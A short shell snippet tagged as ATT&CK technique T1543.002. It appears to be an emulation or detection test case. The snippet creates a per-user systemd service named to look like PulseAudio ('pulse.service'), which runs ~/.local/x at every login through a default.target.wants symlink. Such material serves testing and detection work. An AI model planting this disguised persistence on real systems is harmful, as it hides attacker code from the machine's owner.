# title: A user has a unit of his own
# technique: T1543.002
# as: user
# short: yes

mkdir -p ~/.config/systemd/user/default.target.wants
printf '[Service]\nExecStart=%s/.local/x\n' "$HOME" >~/.config/systemd/user/pulse.service
ln -s ../pulse.service ~/.config/systemd/user/default.target.wants/pulse.service
